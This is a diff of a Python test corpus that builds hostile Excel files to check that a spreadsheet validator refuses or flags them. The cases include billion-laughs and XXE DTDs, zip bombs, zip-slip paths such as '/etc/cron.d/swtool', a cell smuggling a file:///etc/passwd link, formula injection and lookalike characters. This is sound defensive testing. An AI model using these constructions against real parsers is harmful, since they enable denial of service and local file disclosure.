+        ws.cell(2, n + 2, "no header")  # data under a blank header
+
     return _openpyxl_edit(base, tmp / "dup-headers.xlsx", fn)
 
 
@@ -636,7 +814,8 @@ def invisible_characters_in_headers(tmp, base):
         ws.cell(1, 1).value = "\ufeffClaim ref"
         ws.cell(1, 2).value = "Client\u00a0ref"
         ws.cell(1, 3).value = "Out\u200bput"
-        ws.cell(1, 4).value = " Date achieved\u2060 "    # a word joiner
+        ws.cell(1, 4).value = " Date achieved\u2060 "  # a word joiner
+
     return _openpyxl_edit(base, tmp / "invisible.xlsx", fn)
 
 
@@ -646,29 +825,54 @@ REGS = std.REGISTRATIONS.headers
 def cyrillic_postcode(tmp, base):
     def fn(wb):
         wb["Registrations"].cell(2, REGS.index("Postcode") + 1).value = "SE1 0\u0410\u0410"  # Cyrillic А
+
     return _openpyxl_edit(base, tmp / "postcode.xlsx", fn)
 
 
 def lookalike_client_ref(tmp, base):
     def fn(wb):
         wb["Claims"].cell(2, CLAIMS.index("Client ref") + 1).value = "SW1\u041e\u041e001"  # Cyrillic О
+
     return _openpyxl_edit(base, tmp / "client-ref.xlsx", fn)
 
 
 def fullwidth_client_ref(tmp, base):  # NFKC makes it ASCII: read, and said so
     def fn(wb):
         wb["Claims"].cell(2, CLAIMS.index("Client ref") + 1).value = "ＳＷ１００００１"
+
     return _openpyxl_edit(base, tmp / "fullwidth.xlsx", fn)
 
 
 def megabyte_cell(tmp, base):
     ref = "B2"  # Narrative: "Activities and progress"
-    return edit(base, tmp / "megabyte.xlsx", SHEET["Narrative"],
-                lambda t: set_cell(t, ref, inline(ref, " ".join(random.Random(5).choices(WORDS, k=150_000)))))
+    return edit(
+        base,
+        tmp / "megabyte.xlsx",
+        SHEET["Narrative"],
+        lambda t: set_cell(t, ref, inline(ref, " ".join(random.Random(5).choices(WORDS, k=150_000)))),
+    )
 
 
-WORDS = ("outreach", "Walworth", "hub", "referrals", "clients", "employer", "training", "sessions", "advice",
-         "Peckham", "Bermondsey", "jobs", "CV", "interview", "support", "weekly", "mentoring", "placement")
+WORDS = (
+    "outreach",
+    "Walworth",
+    "hub",
+    "referrals",
+    "clients",
+    "employer",
+    "training",
+    "sessions",
+    "advice",
+    "Peckham",
+    "Bermondsey",
+    "jobs",
+    "CV",
+    "interview",
+    "support",
+    "weekly",
+    "mentoring",
+    "placement",
+)
 
 
 # What XML 1.0 can carry into a cell: CR (as &#13;), DEL, C1 controls (U+009B is the 8-bit CSI some
@@ -683,6 +887,7 @@ def control_and_markup(tmp, base):
         t = set_cell(t, ref, inline(ref, CONTROL))
         ref = f"{col(CLAIMS, 'Employer')}2"
         return set_cell(t, ref, inline(ref, "[link=file:///etc/passwd]Borough Market[/link]\u0085\r"))
+
     return edit(base, tmp / "markup.xlsx", SHEET["Claims"], fn)
 
 
@@ -690,11 +895,20 @@ def deep_nesting(tmp, base):
     names = ["".join(random.Random(k).choices("abcdefghijklmnopqrstuvwxyz", k=4)) for k in range(50_000)]
     deep = "".join(f"<{n}>" for n in names) + "".join(f"</{n}>" for n in reversed(names))  # no zip bomb
     p = parts(base)
-    return rezip(base, tmp / "deep.xlsx", replace={
-        "xl/workbook.xml": p["xl/workbook.xml"].decode().replace("<definedNames", f"<extLst>{deep}</extLst>"
-                                                                 "<definedNames").encode(),
-        SHEET["Claims"]: p[SHEET["Claims"]].decode().replace("</sheetData>", f"</sheetData><extLst>{deep}</extLst>")
-        .encode()})
+    return rezip(
+        base,
+        tmp / "deep.xlsx",
+        replace={
+            "xl/workbook.xml": p["xl/workbook.xml"]
+            .decode()
+            .replace("<definedNames", f"<extLst>{deep}</extLst><definedNames")
+            .encode(),
+            SHEET["Claims"]: p[SHEET["Claims"]]
+            .decode()
+            .replace("</sheetData>", f"</sheetData><extLst>{deep}</extLst>")
+            .encode(),
+        },
+    )
 
 
 def broken_deflate(tmp, base, member: str = SHEET["Claims"]):
@@ -705,8 +919,12 @@ def broken_deflate(tmp, base, member: str = SHEET["Claims"]):
     data = bytearray(p.read_bytes())
     with zipfile.ZipFile(p) as z:
         info = z.getinfo(member)
-    start = info.header_offset + 30 + int.from_bytes(data[info.header_offset + 26:info.header_offset + 28], "little") \
-        + int.from_bytes(data[info.header_offset + 28:info.header_offset + 30], "little")
+    start = (
+        info.header_offset
+        + 30
+        + int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little")
+        + int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little")
+    )
     data[start] = 0x07  # BFINAL=1, BTYPE=11 (reserved)
     p.write_bytes(bytes(data))
     return p
@@ -717,29 +935,34 @@ EXPS = std.EXPENDITURE.headers
 
 def age_1e308(tmp, base):
     """An age of 1e308: a whole number to Python, too big for any integer column (it crashed the typing)."""
+
     def fn(wb):
         wb["Registrations"].cell(2, REGS.index("Age at registration") + 1).value = 1e308
+
     return _openpyxl_edit(base, tmp / "age-1e308.xlsx", fn)
 
 
 def spend_1e308(tmp, base):
     """Actual spend of 1e308 and a budget of -1e308: sums and pence overflow in the money rules."""
+
     def fn(wb):
         wb["Expenditure"].cell(2, EXPS.index("Actual spend") + 1).value = 1e308
         wb["Expenditure"].cell(2, EXPS.index("Budgeted amount") + 1).value = -1e308
+
     return _openpyxl_edit(base, tmp / "spend-1e308.xlsx", fn)
 
 
 # --- the corpus ---------------------------------------------------------------------------------------
 
+
 @dataclass(frozen=True)
 class Case:
     id: str
     build: Callable[[Path, Path], Path]
-    reason: str | None = None                     # S001's reason, when the file is refused
-    words: str = ""                               # in the S001 sentence or the note
-    structure: tuple[tuple[str, str], ...] = ()   # the exact S findings otherwise: (code, cell or sheet)
-    present: tuple[tuple[str, str], ...] = ()     # other findings that must be there
+    reason: str | None = None  # S001's reason, when the file is refused
+    words: str = ""  # in the S001 sentence or the note
+    structure: tuple[tuple[str, str], ...] = ()  # the exact S findings otherwise: (code, cell or sheet)
+    present: tuple[tuple[str, str], ...] = ()  # other findings that must be there
     note: str | None = None
     exit: int = 1
     heavy: bool = False
@@ -763,13 +986,21 @@ CASES = [
     Case("bare-cfb-header", bare_cfb_header, "not-workbook", "holds no Excel workbook, or a damaged one"),
     Case("billion-laughs-sheet", laughs_in_sheet, "dtd", "document type declaration (xl/worksheets/sheet3.xml)"),
     Case("billion-laughs-workbook", laughs_in_workbook, "dtd", "document type declaration (xl/workbook.xml)"),
-    Case("billion-laughs-shared-strings", laughs_in_shared_strings, "dtd",
-         "document type declaration (xl/sharedStrings.xml)"),
-    Case("billion-laughs-behind-long-comment", laughs_behind_long_comment, "dtd",
-         "document type declaration (xl/worksheets/sheet3.xml)", heavy=True),
+    Case(
+        "billion-laughs-shared-strings",
+        laughs_in_shared_strings,
+        "dtd",
+        "document type declaration (xl/sharedStrings.xml)",
+    ),
+    Case(
+        "billion-laughs-behind-long-comment",
+        laughs_behind_long_comment,
+        "dtd",
+        "document type declaration (xl/worksheets/sheet3.xml)",
+        heavy=True,
+    ),
     Case("doctype-behind-comment", doctype_behind_comment, "dtd", "document type declaration (xl/workbook.xml)"),
-    Case("quadratic-blowup", quadratic_blowup, "dtd", "document type declaration (xl/sharedStrings.xml)",
-         heavy=True),
+    Case("quadratic-blowup", quadratic_blowup, "dtd", "document type declaration (xl/sharedStrings.xml)", heavy=True),
     Case("xxe-local-file", xxe_local_file, "dtd", "document type declaration"),
     Case("external-dtd", external_dtd, "dtd", "document type declaration (xl/workbook.xml)"),
     Case("malformed-workbook-xml", malformed_workbook_xml, "damaged", "damaged and cannot be opened"),
@@ -782,72 +1013,159 @@ CASES = [
     Case("zip-slip-dotdot", zip_slip_dotdot, "zip-names", "a part with an unsafe name ('../x')"),
     Case("zip-slip-absolute", zip_slip_absolute, "zip-names", "unsafe name ('/etc/cron.d/swtool')"),
     Case("zip-slip-backslash", zip_slip_backslash, "zip-names", "unsafe name"),
-    Case("20000-entries", many_entries, "zip-limits", "20,014 parts inside it, over the limit of 1,000 "
-         "(limit max_entries)", heavy=True),
-    Case("over-file-size", rezipped, "too-large", "limit for a return (limit max_file_bytes)",
-         env="max_file_bytes=2000"),
-    Case("entries-over-the-limit", rezipped, "zip-limits", "14 parts inside it, over the limit of 12 "
-         "(limit max_entries)", env="max_entries=12"),
-    Case("ratio-over-the-limit", over_ratio, "zip-limits", "(xl/media/image1.bin) is compressed",
-         env="ratio_floor=10000,max_ratio=50"),
-    Case("part-over-the-limit", oversized_part, "zip-limits", "(xl/media/pad.bin) unpacks to 3 MB, over the 2 MB "
-         "limit (limit max_entry_bytes)", env="max_entry_bytes=2097152,max_ratio=10000"),
+    Case(
+        "20000-entries",
+        many_entries,
+        "zip-limits",
+        "20,014 parts inside it, over the limit of 1,000 (limit max_entries)",
+        heavy=True,
+    ),
+    Case(
+        "over-file-size", rezipped, "too-large", "limit for a return (limit max_file_bytes)", env="max_file_bytes=2000"
+    ),
+    Case(
+        "entries-over-the-limit",
+        rezipped,
+        "zip-limits",
+        "14 parts inside it, over the limit of 12 (limit max_entries)",
+        env="max_entries=12",
+    ),
+    Case(
+        "ratio-over-the-limit",
+        over_ratio,
+        "zip-limits",
+        "(xl/media/image1.bin) is compressed",
+        env="ratio_floor=10000,max_ratio=50",
+    ),
+    Case(
+        "part-over-the-limit",
+        oversized_part,
+        "zip-limits",
+        "(xl/media/pad.bin) unpacks to 3 MB, over the 2 MB limit (limit max_entry_bytes)",
+        env="max_entry_bytes=2097152,max_ratio=10000",
+    ),
     Case("zip-bomb-sheet", zip_bomb_sheet, "zip-limits", "(xl/worksheets/sheet3.xml) is compressed", heavy=True),
-    Case("zip-bomb-shared-strings", zip_bomb_shared_strings, "zip-limits", "(xl/sharedStrings.xml) is compressed",
-         heavy=True),
+    Case(
+        "zip-bomb-shared-strings",
+        zip_bomb_shared_strings,
+        "zip-limits",
+        "(xl/sharedStrings.xml) is compressed",
+        heavy=True,
+    ),
     Case("headers-lie-small", lying_sizes_small, "damaged", "cut short", heavy=True),
-    Case("headers-lie-large", lying_sizes_large, "zip-limits", "unpacks to 3072 MB, over the 100 MB limit "
-         "(limit max_entry_bytes)"),
-    Case("reader-time-limit", reader_time_limit, "time-limit", "could not be read within 2 seconds "
-         "(limit read_seconds)", heavy=True, env=RELAXED + ",read_seconds=2"),
-    Case("reader-memory-limit", reader_memory_limit, "memory-limit", "within 100 MB of memory "
-         "(limit read_memory_mb)", heavy=True, env=RELAXED + ",max_text_chars=1000000000,read_memory_mb=100"),
-    Case("shared-string-amplifier", shared_string_amplifier, "too-much-text",
-         "(limit max_text_chars)", heavy=True),
-    Case("invalid-sheet-name", invalid_sheet_name, "sheet-names", "a sheet named 'Q2/2026', which Excel does "
-         "not allow"),
+    Case(
+        "headers-lie-large",
+        lying_sizes_large,
+        "zip-limits",
+        "unpacks to 3072 MB, over the 100 MB limit (limit max_entry_bytes)",
+    ),
+    Case(
+        "reader-time-limit",
+        reader_time_limit,
+        "time-limit",
+        "could not be read within 2 seconds (limit read_seconds)",
+        heavy=True,
+        env=RELAXED + ",read_seconds=2",
+    ),
+    Case(
+        "reader-memory-limit",
+        reader_memory_limit,
+        "memory-limit",
+        "within 100 MB of memory (limit read_memory_mb)",
+        heavy=True,
+        env=RELAXED + ",max_text_chars=1000000000,read_memory_mb=100",
+    ),
+    Case("shared-string-amplifier", shared_string_amplifier, "too-much-text", "(limit max_text_chars)", heavy=True),
+    Case(
+        "invalid-sheet-name", invalid_sheet_name, "sheet-names", "a sheet named 'Q2/2026', which Excel does not allow"
+    ),
     Case("blank-sheet-name", blank_sheet_name, "sheet-names", "a sheet named ' ', which Excel does not allow"),
-    Case("duplicate-sheet-names", duplicate_sheet_names, "duplicate-sheets", "two sheets named 'Claims' and "
-         "'CLAIMS'"),
-    Case("duplicate-sheet-names-exact", duplicate_sheet_names_exact, "duplicate-sheets",
-         "two sheets named 'Claims' and 'Claims'"),
+    Case("duplicate-sheet-names", duplicate_sheet_names, "duplicate-sheets", "two sheets named 'Claims' and 'CLAIMS'"),
+    Case(
+        "duplicate-sheet-names-exact",
+        duplicate_sheet_names_exact,
+        "duplicate-sheets",
+        "two sheets named 'Claims' and 'Claims'",
+    ),
     Case("all-sheets-hidden", all_sheets_hidden, "no-sheets", "Every sheet of the workbook is hidden"),
     # open, and read as what they are
-    Case("embedded-ole-activex", embedded_ole_activex, note="embedded objects or ActiveX controls; they are "
-         "ignored", exit=0),
+    Case(
+        "embedded-ole-activex",
+        embedded_ole_activex,
+        note="embedded objects or ActiveX controls; they are ignored",
+        exit=0,
+    ),
     Case("external-link", external_link, note="links to other files; the links are ignored", exit=0),
     Case("lying-dimension", lying_dimension, exit=0, heavy=True),
-    Case("stray-cell-XFD1048576", stray_far_cell, exit=0, heavy=True,
-         note="Sheet 'Claims': reading stopped after 1,000 blank rows at row 1,002 (limit blank_row_stop)"),
-    Case("16384-columns", wide_row, heavy=True, exit=0,  # read up to max_columns (200): one S008 each past Y
-         note="Sheet 'Claims': columns after GR were not read (limit max_columns, 200 columns)",
-         structure=tuple(("S008", f"Claims!{column_letter(j)}1") for j in range(len(CLAIMS) + 1, 201))),
+    Case(
+        "stray-cell-XFD1048576",
+        stray_far_cell,
+        exit=0,
+        heavy=True,
+        note="Sheet 'Claims': reading stopped after 1,000 blank rows at row 1,002 (limit blank_row_stop)",
+    ),
+    Case(
+        "16384-columns",
+        wide_row,
+        heavy=True,
+        exit=0,  # read up to max_columns (200): one S008 each past Y
+        note="Sheet 'Claims': columns after GR were not read (limit max_columns, 200 columns)",
+        structure=tuple(("S008", f"Claims!{column_letter(j)}1") for j in range(len(CLAIMS) + 1, 201)),
+    ),
     # the formula's cell is S009 (a warning: re-save in Excel) and only S009: C205 does not also call it empty
-    Case("formula-without-cached-value", formula_without_value, structure=(("S009", f"Claims!{C['Weekly hours']}2"),),
-         exit=0),
+    Case(
+        "formula-without-cached-value",
+        formula_without_value,
+        structure=(("S009", f"Claims!{C['Weekly hours']}2"),),
+        exit=0,
+    ),
     Case("formula-with-forged-cached-value", formula_forged_value, structure=(("S004", f"Claims!{C['Output']}2"),)),
     Case("formula-injection-text", formula_injection_text, structure=(("S004", f"Claims!{C['Output']}2"),)),
-    Case("dates-every-form", dates_every_form, structure=tuple(
-        [("S004", f"Milestones!C{r}") for r in (6, 7, 8, 10, 11)] + [("S007", f"Milestones!C{r}") for r in (3, 4, 5)])),
+    Case(
+        "dates-every-form",
+        dates_every_form,
+        structure=tuple(
+            [("S004", f"Milestones!C{r}") for r in (6, 7, 8, 10, 11)]
+            + [("S007", f"Milestones!C{r}") for r in (3, 4, 5)]
+        ),
+    ),
     Case("dates-1904-system", dates_1904, exit=0),
     Case("merged-two-row-header", merged_two_row_header, exit=0),
     Case("merged-two-row-header-names-above", merged_two_row_header_late, exit=0),
     Case("header-not-in-row-1", header_not_in_row_1, exit=0),
     Case("hidden-and-very-hidden-sheets", hidden_sheets, structure=(("S002", "Claims"),)),
     Case("hidden-rows", hidden_rows, structure=(("S004", f"Claims!{C['Output']}3"),)),
-    Case("duplicate-and-blank-headers", duplicate_and_blank_headers, exit=0, structure=(
-        ("S008", f"Claims!{column_letter(len(CLAIMS) + 1)}1"), ("S008", f"Claims!{column_letter(len(CLAIMS) + 2)}1"))),
+    Case(
+        "duplicate-and-blank-headers",
+        duplicate_and_blank_headers,
+        exit=0,
+        structure=(
+            ("S008", f"Claims!{column_letter(len(CLAIMS) + 1)}1"),
+            ("S008", f"Claims!{column_letter(len(CLAIMS) + 2)}1"),
+        ),
+    ),
     Case("nbsp-zero-width-bom-in-headers", invisible_characters_in_headers, exit=0),
     Case("cyrillic-postcode", cyrillic_postcode, present=(("R101", f"Registrations!{col(REGS, 'Postcode')}2"),)),
     Case("lookalike-client-ref", lookalike_client_ref, structure=(("S004", f"Claims!{C['Client ref']}2"),)),
     Case("fullwidth-client-ref", fullwidth_client_ref, exit=0, structure=(("S007", f"Claims!{C['Client ref']}2"),)),
-    Case("megabyte-cell", megabyte_cell, exit=0, heavy=True,
-         note="Sheet 'Narrative': 1 cell was cut to 32,767 characters (limit max_text)"),
+    Case(
+        "megabyte-cell",
+        megabyte_cell,
+        exit=0,
+        heavy=True,
+        note="Sheet 'Narrative': 1 cell was cut to 32,767 characters (limit max_text)",
+    ),
     Case("control-characters-and-markup", control_and_markup, structure=(("S004", f"Claims!{C['Output']}2"),)),
     Case("deep-xml-nesting", deep_nesting, exit=0, heavy=True),
     # one file must never stop a batch (tests/hostile/test_batches.py puts these among good returns)
     Case("broken-deflate-stream", broken_deflate, "damaged", "a part inside it cannot be unpacked"),
     Case("age-1e308", age_1e308, structure=(("S004", f"Registrations!{col(REGS, 'Age at registration')}2"),)),
-    Case("spend-1e308", spend_1e308, structure=(("S004", f"Expenditure!{col(EXPS, 'Actual spend')}2"),
-                                                ("S004", f"Expenditure!{col(EXPS, 'Budgeted amount')}2"))),
+    Case(
+        "spend-1e308",
+        spend_1e308,
+        structure=(
+            ("S004", f"Expenditure!{col(EXPS, 'Actual spend')}2"),
+            ("S004", f"Expenditure!{col(EXPS, 'Budgeted amount')}2"),
+        ),
+    ),
 ]
